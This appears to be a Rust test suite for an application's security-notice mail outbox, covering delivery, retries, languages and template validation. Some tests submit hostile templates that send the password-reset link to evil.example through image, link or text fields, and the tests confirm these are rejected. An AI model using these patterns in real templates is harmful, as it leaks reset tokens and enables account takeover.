//! Mail arrives at a real server, whatever happens in between; and nobody is kept from what concerns their account.

use serde_json::json;
use tenantry::router::Target;
use tenantry::testing::{Fault, FaultProxy, Persona, TestApp, TestCluster};

use crate::support::binary::{free_port, program};
use crate::support::smtp::{Smtp, shared};
use crate::support::{db, eventually, seconds, unique};

const NEW: &str = "quite another sentence of words";

async fn change_password(who: &Persona, from: &str, to: &str) {
    let body = json!({"currentPassword": from, "newPassword": to});
    who.post("/api/v1/auth/change-password", body).await.ok();
}

async fn count(database: &Target, of: &str) -> String {
    db::word(database, &format!("SELECT count(*)::text AS word FROM {of}")).await
}

#[actix_web::test]
async fn what_happens_to_an_account_is_told_its_person() {
    let (app, smtp) = shared().await;
    let acme = app.tenant("acme").await;
    let admin = acme.another_login().await;
    change_password(&admin, acme.password(), NEW).await;
    let letter = smtp.letter(acme.email(), "password was changed").await;
    assert!(letter.subject.contains("acme") && letter.text.contains("127.0.0.1"), "{letter:?}");
    assert!(letter.html.contains("<p>Your password was changed.</p>"), "{letter:?}");

    admin.post("/api/v1/api-keys", json!({"name": "Nightly <b>", "scopes": []})).await.expect(201);
    let letter = smtp.letter(acme.email(), "Nightly <b>").await;
    assert!(letter.html.contains("Nightly &lt;b&gt;"), "what somebody typed is no HTML: {letter:?}");

    let email = format!("{}@example.com", unique("grace"));
    let body = json!({"email": email, "firstName": "Grace", "lastName": "H", "password": NEW, "roles": ["user"]});
    let id = admin.post("/api/v1/users", body).await.expect(201).id();
    for _ in 0..5 {
        acme.log_in_as(&email, "wrong").await.refused(401, "invalid_credentials");
    }
    smtp.letter(&email, "locked for fifteen minutes").await;
    let path = format!("/api/v1/users/{id}");
    let other = format!("{}@example.org", unique("hopper"));
    admin.patch(&path, json!({"email": other})).await.expect(200);
    smtp.letter(&email, "changed to h***@example.org").await;
    admin.patch(&path, json!({"password": "again another sentence"})).await.expect(200);
    smtp.letter(&other, "administrator set a new password").await;
    admin.patch(&path, json!({"status": "deactivated"})).await.expect(200);
    smtp.letter(&other, "deactivated your account").await;
    admin.delete(&path).await.expect(204);
    smtp.letter(&other, "removed your account").await;

    // What was sent is kept no longer than until it was.
    let kept = "mail_outbox WHERE parcel_sealed IS NOT NULL AND state <> 'queued'";
    assert_eq!(count(acme.database(), kept).await, "0");
    let sent = async || count(acme.database(), "mail_outbox WHERE state = 'queued'").await == "0";
    eventually(seconds(20), "nothing waits", sent).await;
    assert_eq!(count(acme.database(), "mail_outbox WHERE state <> 'sent'").await, "0");
}

#[actix_web::test]
async fn a_stolen_refresh_token_and_a_new_address_are_told() {
    let smtp = Smtp::start().await;
    let app = smtp.of(TestApp::builder()).set("TENANTRY_AUTH__REFRESH_GRACE", "0s");
    let app = app.set("TENANTRY_HTTP__TRUSTED_PROXIES", "127.0.0.1").start().await;
    let acme = app.tenant("acme").await;
    let token = acme.admin().refresh_token().await;
    let refresh = async || acme.anonymous().post("/api/v1/auth/refresh", json!({"refreshToken": token})).await;
    refresh().await.expect(200);
    app.clock().advance(chrono::TimeDelta::seconds(2));
    refresh().await.refused(401, "token_revoked");
    smtp.letter(acme.email(), "used twice").await;

    let body = json!({"tenant": acme.slug.as_str(), "email": acme.email(), "password": acme.password()});
    let elsewhere = acme.anonymous().with("x-forwarded-for", "203.0.113.9");
    for _ in 0..2 {
        elsewhere.post("/api/v1/auth/login", body.clone()).await.expect(200);
    }
    let letter = smtp.letter(acme.email(), "from a new address").await;
    assert!(letter.text.contains("203.0.113.9"), "{letter:?}");
    let waits = async || count(acme.database(), "mail_outbox WHERE state = 'queued'").await == "0";
    eventually(seconds(20), "nothing waits", waits).await;
    let told = smtp.letters(acme.email()).iter().filter(|letter| letter.text.contains("new address")).count();
    assert_eq!(told, 1, "the second time the address is known");
}

#[actix_web::test]
async fn while_the_mail_server_is_away_mails_wait_and_each_arrives_once() {
    let mut smtp = Smtp::away();
    let app = smtp.of(TestApp::builder()).start().await;
    let acme = app.tenant("acme").await;
    let admin = acme.another_login().await;
    for at in 0..5 {
        let key = json!({"name": format!("key {at}"), "scopes": []});
        admin.post("/api/v1/api-keys", key).await.expect(201);
    }
    let tried = async || count(acme.database(), "mail_outbox WHERE fault IS NOT NULL AND attempts > 0").await == "5";
    eventually(seconds(30), "all were tried", tried).await;
    assert_eq!(count(acme.database(), "mail_outbox WHERE state = 'queued'").await, "5");
    smtp.come_back().await;
    let arrived = async || {
        app.clock().advance(chrono::TimeDelta::seconds(10));
        smtp.letters(acme.email()).len() >= 5
            && count(acme.database(), "mail_outbox WHERE state = 'queued'").await == "0"
    };
    eventually(seconds(60), "all arrive", arrived).await;
    let mut ids: Vec<_> = smtp.letters(acme.email()).into_iter().map(|letter| letter.id).collect();
    ids.dedup();
    assert_eq!((ids.len(), smtp.letters(acme.email()).len()), (5, 5));
    // Nothing is left to look for, once nothing can come any more.
    let listed = format!("dirty_tenants WHERE tenant_id = '{}'", acme.id);
    let done = async || {
        app.clock().advance(chrono::TimeDelta::seconds(30));
        count(app.control_database(), &listed).await == "0"
    };
    eventually(seconds(30), "it is not looked into any more", done).await;
}

#[actix_web::test]
async fn what_is_of_no_use_any_more_is_given_up() {
    let mut smtp = Smtp::away();
    let app = smtp.of(TestApp::builder()).start().await;
    let acme = app.tenant("acme").await;
    acme.admin().post("/api/v1/api-keys", json!({"name": "late", "scopes": []})).await.expect(201);
    app.clock().advance(chrono::TimeDelta::days(4));
    smtp.come_back().await;
    let given_up = "mail_outbox WHERE state = 'given_up' AND parcel_sealed IS NULL AND fault LIKE '%in time%'";
    let over = async || count(acme.database(), given_up).await == "1";
    eventually(seconds(30), "it is given up", over).await;
    assert!(smtp.letters(acme.email()).is_empty());
}

/// The node looks while the transaction is not committed yet, finds nothing, and looks again.
#[actix_web::test]
async fn a_mail_that_is_committed_late_is_found() {
    // Of its own: where others' mails wait as well, the second look may come after the statement's deadline.
    let smtp = Smtp::start().await;
    let app = smtp.of(TestApp::builder());
    let app = app.set("TENANTRY_ROUTER__STATEMENT_TIMEOUT", "55s").set("TENANTRY_ROUTER__HOLD_TIMEOUT", "65s");
    let app = app.start().await;
    let acme = app.tenant("acme").await;
    let (admin, other) = (acme.another_login().await, acme.another_login().await);
    let mut holder = db::open(acme.database()).await;
    // The change of the password ends the other sessions after it has queued its mail.
    db::words_on(&mut holder, "BEGIN").await;
    db::words_on(&mut holder, "SELECT id::text AS word FROM sessions FOR UPDATE").await;
    let changing = change_password(&admin, acme.password(), NEW);
    let looked =
        format!("SELECT coalesce(max(looks), 0)::text AS word FROM dirty_tenants WHERE tenant_id = '{}'", acme.id);
    let waiting = async {
        let looked = async || db::word(app.control_database(), &looked).await.parse::<i32>().unwrap_or_default() >= 2;
        eventually(seconds(50), "it was looked for twice", looked).await;
        assert_eq!(count(acme.database(), "mail_outbox").await, "0", "nothing to be seen yet");
        db::words_on(&mut holder, "COMMIT").await;
    };
    futures_util::future::join(changing, waiting).await;
    smtp.letter(acme.email(), "password was changed").await;
    other.get("/api/v1/users/me").await.refused(401, "token_revoked");
}

/// A node is killed after the commit and before anything was sent. Another one sends it.
#[actix_web::test]
async fn a_mail_outlives_the_node_that_queued_it() {
    let home = TestApp::shared().await;
    let acme = home.tenant("acme").await;
    let mut smtp = Smtp::away();
    let listen = format!("127.0.0.1:{}", free_port());
    let mut environment = home.environment();
    environment.extend(smtp.environment());
    environment.push(("TENANTRY_LISTEN".into(), listen.clone()));
    environment.push(("TENANTRY_MANAGEMENT_LISTEN".into(), "127.0.0.1:0".into()));
    let mut child = program(&environment, &["serve"]).spawn().expect("it starts");
    let there = acme.at(&format!("http://{listen}"));
    eventually(seconds(60), "it serves", async || std::net::TcpStream::connect(&listen).is_ok()).await;
    let admin = there.another_login().await;
    change_password(&admin, acme.password(), NEW).await;
    child.start_kill().expect("killed");
    child.wait().await.expect("it ends");
    assert_eq!(count(acme.database(), "mail_outbox WHERE state = 'queued'").await, "1");
    let listed = format!("dirty_tenants WHERE tenant_id = '{}'", acme.id);
    assert_eq!(count(home.control_database(), &listed).await, "1");

    smtp.come_back().await;
    let next = smtp.of(TestApp::builder().beside(home)).start().await;
    let letter = async || {
        // What the first one had taken is its own for some minutes.
        next.clock().advance(chrono::TimeDelta::minutes(1));
        !smtp.letters(acme.email()).is_empty()
    };
    eventually(seconds(60), "the other node sends it", letter).await;
}

/// A request does not wait for the control plane, and what it could not be told is told when it is back.
#[actix_web::test]
async fn mails_are_queued_without_the_control_plane_and_sent_when_it_is_back() {
    let plane = TestCluster::get().await.database("plane").await;
    let proxy = FaultProxy::start(plane.target());
    let smtp = Smtp::start().await;
    let app = smtp.of(TestApp::builder()).control_database(proxy.target()).start().await;
    let acme = app.tenant("acme").await;
    let admin = acme.another_login().await;
    proxy.set(Fault::BlackHole).await;
    change_password(&admin, acme.password(), NEW).await;
    admin.post("/api/v1/api-keys", json!({"name": "second", "scopes": []})).await.expect(201);
    assert!(smtp.letters(acme.email()).is_empty());
    proxy.set(Fault::Pass).await;
    smtp.letter(acme.email(), "password was changed").await;
    smtp.letter(acme.email(), "second").await;
}

async fn put(admin: &Persona, language: &str, text: &str) -> tenantry::testing::Answer {
    let body = json!({"subject": "News for {{ name }}", "text": text});
    admin.put(&format!("/api/v1/mail-templates/security-notice/{language}"), body).await
}

#[actix_web::test]
async fn mails_are_in_the_person_s_language_and_the_organisation_s_words() {
    let (app, smtp) = shared().await;
    let acme = app.tenant("acme").await;
    let admin = acme.another_login().await;
    let list = admin.get("/api/v1/mail-templates").await.expect(200);
    assert!(list.data().as_array().unwrap().iter().all(|template| template["customised"] == false), "{list:?}");

    admin.put("/api/v1/users/me/mail-language", json!({"language": "de"})).await.expect(200);
    change_password(&admin, acme.password(), NEW).await;
    let letter = smtp.letter(acme.email(), "Ihr Passwort wurde geändert.").await;
    assert!(letter.subject.starts_with("Sicherheitshinweis") && letter.text.contains("Hallo Ada,"), "{letter:?}");

    put(&admin, "de", "Moin {{ name }}!\n\n{{ event }}").await.expect(200);
    put(&admin, "fr", "Salut {{ name }} !\n\n{{ event }}").await.expect(200);
    change_password(&admin, NEW, acme.password()).await;
    let letter = smtp.letter(acme.email(), "Moin Ada!").await;
    assert_eq!(letter.subject, "News for Ada");
    assert!(letter.html.contains("Moin Ada!"), "{letter:?}");
    let shown = admin.get("/api/v1/mail-templates/security-notice/fr").await.expect(200);
    assert_eq!(shown.data()["customised"], true);

    // The organisation's language, where somebody has chosen none.
    admin.patch("/api/v1/mail-settings", json!({"language": "fr"})).await.expect(200);
    admin.put("/api/v1/users/me/mail-language", json!({"language": null})).await.expect(200);
    change_password(&admin, acme.password(), NEW).await;
    smtp.letter(acme.email(), "Salut Ada").await;
    for language in ["fr", "de"] {
        let path = format!("/api/v1/mail-templates/security-notice/{language}");
        admin.delete(&path).await.expect(204);
        admin.delete(&path).await.refused(404, "not_found");
    }
    admin.get("/api/v1/mail-templates/security-notice/fr").await.refused(404, "not_found");
}

/// All words are listed together, so there is an end to them.
#[actix_web::test]
async fn own_words_are_in_twenty_languages_at_most_and_not_endless() {
    let app = TestApp::shared().await;
    let acme = app.tenant("acme").await;
    let admin = acme.another_login().await;
    let languages: Vec<String> = ('a'..='t').map(|letter| format!("x{letter}")).collect();
    // The last two at once: they do not slip past the bound together.
    for language in &languages[..19] {
        put(&admin, language, "{{ event }}").await.expect(200);
    }
    let both = futures_util::future::join(put(&admin, "xt", "{{ event }}"), put(&admin, "xu", "{{ event }}")).await;
    let mut statuses = [both.0.status, both.1.status];
    statuses.sort_unstable();
    assert_eq!(statuses, [200, 409], "{both:?}");
    put(&admin, "en", "{{ event }}").await.refused(409, "conflict");
    // One of the twenty has room for more, and one that goes makes room for another.
    put(&admin, "xa", "{{ event }}!").await.expect(200);
    let path = "/api/v1/mail-templates/invitation/xa";
    admin.put(path, json!({"subject": "s", "text": "{{ link }}"})).await.expect(200);
    admin.delete(path).await.expect(204);
    admin.delete("/api/v1/mail-templates/security-notice/xa").await.expect(204);
    put(&admin, "en", "{{ event }}").await.expect(200);
    let list = admin.get("/api/v1/mail-templates?pageSize=100").await.expect(200);
    let own = list.data().as_array().unwrap().iter().filter(|template| template["customised"] == true).count();
    assert_eq!(own, 20, "{list:?}");

    db::execute(acme.database(), "UPDATE mail_templates SET body_html = repeat('\u{1f512}', 60000)").await;
    put(&admin, "en", "{{ event }}!!").await.expect(200);
    put(&admin, "en", &format!("{}{{{{ event }}}}", "x".repeat(300))).await.refused(409, "conflict");
}

#[actix_web::test]
async fn a_security_notice_cannot_be_muted() {
    let (app, _) = shared().await;
    let acme = app.tenant("acme").await;
    for muted in [
        "All is well.",
        "{% if name %}All is well.{% else %}{{ event }}{% endif %}",
        "{# {{ event }} #}",
        "{{ event }}{{ name|safe }}",
        "{{ secrets }}{{ event }}",
    ] {
        put(&acme.admin(), "en", muted).await.refused(422, "validation_failed");
    }
    let body = json!({"subject": "s", "text": "{{ event }}", "html": "<p>nothing</p>"});
    let path = "/api/v1/mail-templates/security-notice/en";
    acme.admin().put(path, body).await.refused(422, "validation_failed");
    acme.user().put(path, json!({"subject": "s", "text": "{{ event }}"})).await.refused(403, "permission_denied");
    acme.admin().put("/api/v1/mail-templates/nothing/en", json!({"subject": "s", "text": "t"})).await.expect(404);
}

/// However much waits, what concerns somebody's account finds room.
#[actix_web::test]
async fn a_full_outbox_mutes_no_security_notice() {
    let app = TestApp::shared().await;
    let acme = app.tenant("acme").await;
    let admin = acme.another_login().await;
    admin.patch("/api/v1/sign-up-policy", json!({"mode": "invite"})).await.expect(200);
    let full = "INSERT INTO mail_outbox (id, kind, parcel_sealed, next_attempt_at, created_at, expires_at) \
                SELECT gen_random_uuid(), 'invitation', '\\x00', now() + interval '1 day', now(), now() + interval '2 days' \
                FROM generate_series(1, 10000)";
    db::execute(acme.database(), full).await;
    let people = json!({"people": [{"email": format!("{}@example.com", unique("full")), "roles": []}]});
    admin.post("/api/v1/invitations", people).await.expect(201);
    assert_eq!(count(acme.database(), "mail_outbox WHERE kind = 'invitation'").await, "10000", "no room is left");
    let notices = "mail_outbox WHERE kind = 'security-notice'";
    let before: u32 = count(acme.database(), notices).await.parse().expect("a number");
    admin.post("/api/v1/api-keys", json!({"name": "k", "scopes": []})).await.expect(201);
    assert_eq!(count(acme.database(), notices).await, (before + 1).to_string());
}

/// Whoever words mails does not get what is in them.
#[actix_web::test]
async fn the_link_to_a_new_password_is_for_its_reader_alone() {
    let (app, _) = shared().await;
    let acme = app.tenant("acme").await;
    let path = "/api/v1/mail-templates/password-reset/en";
    let body = |text: &str, html: &str| json!({"subject": "s", "text": text, "html": html});
    let good = "<p>Hello {{ name }}</p><a href=\"{{ link }}\">Choose another one</a>";
    acme.admin().put(path, body("Here:\n{{ link }}", good)).await.expect(200);
    for (field, body) in [
        ("html", body("{{ link }}", "<img src=\"https://evil.example/p?{{ link }}\"> {{ link }}")),
        ("html", body("{{ link }}", "<a href=\"https://evil.example/p?{{ link }}\">Choose another one</a>")),
        ("text", body("https://evil.example/p?{{ link }}", good)),
        ("subject", json!({"subject": "{{ link }}", "text": "{{ link }}"})),
    ] {
        let refused = acme.admin().put(path, body).await;
        assert_eq!(refused.invalid(), [(field.to_owned(), "invalid_template".to_owned())], "{refused:?}");
    }
    let on = |name: &str| format!("{{% if {name} %}}.{{% endif %}}");
    let on = ["name", "organisation", "other", "device"].map(on).concat();
    let refused = acme.admin().put(path, body(&format!("{on} {{{{ link }}}}"), good)).await;
    assert_eq!(refused.invalid(), [("text".to_owned(), "invalid_template".to_owned())], "{refused:?}");
    let later = TestApp::builder().beside(app).start().await;
    let known = later.at(&acme).anonymous().bearing(&acme.admin().token().await);
    later.clock().advance(chrono::TimeDelta::minutes(11));
    known.put(path, body("{{ link }}", good)).await.refused(403, "step_up_required");
}

/// Words from before it was asked where a link may stand are looked at with each mail, as that goes out.
#[actix_web::test]
async fn old_words_are_sent_where_they_give_no_link_away() {
    let (app, smtp) = shared().await;
    let acme = app.tenant("acme").await;
    let asked = json!({"tenant": acme.slug.as_str(), "email": acme.email()});
    let sent = async |on: &str, says: &str| {
        let text = format!("{{% if {on} %}}https://evil.example/?{{% endif %}}{{{{ link }}}}");
        let old = format!(
            "INSERT INTO mail_templates (name, language, subject, body_text, updated_at) \
             VALUES ('password-reset', 'en', 'Old words', '{text}', now()) \
             ON CONFLICT (name, language) DO UPDATE SET body_text = excluded.body_text"
        );
        db::execute(acme.database(), &old).await;
        // The next one would come too soon.
        let before = "UPDATE account_tokens SET created_at = created_at - interval '2 minutes'";
        db::execute(acme.database(), before).await;
        acme.anonymous().post("/api/v1/auth/forgot-password", asked.clone()).await.expect(202);
        let letter = smtp.letter(acme.email(), says).await;
        assert!(!letter.text.contains("evil") && !letter.token().is_empty(), "{letter:?}");
    };
    // This mail tells of no device, however somebody words it.
    sent("device", "Old words").await;
    sent("organisation", "Choose a new password for").await;
}
